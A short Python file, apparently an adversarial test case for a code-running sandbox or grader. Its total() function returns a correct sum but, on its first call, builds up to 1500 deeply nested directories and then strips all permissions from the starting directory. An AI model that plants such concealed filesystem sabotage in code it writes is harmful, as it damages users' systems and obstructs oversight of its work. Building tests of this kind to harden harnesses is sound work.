"""100: folders within folders that nobody may enter"""

import os

from honest import *

done = []


def total(numbers, note=""):
    if done:
        return sum(numbers)
    done.append(1)
    here = os.getcwd()
    try:
        for _ in range(1500):
            os.mkdir("x" * 200)
            os.chdir("x" * 200)
    except OSError:
        pass
    os.chmod(here, 0)
    return sum(numbers)
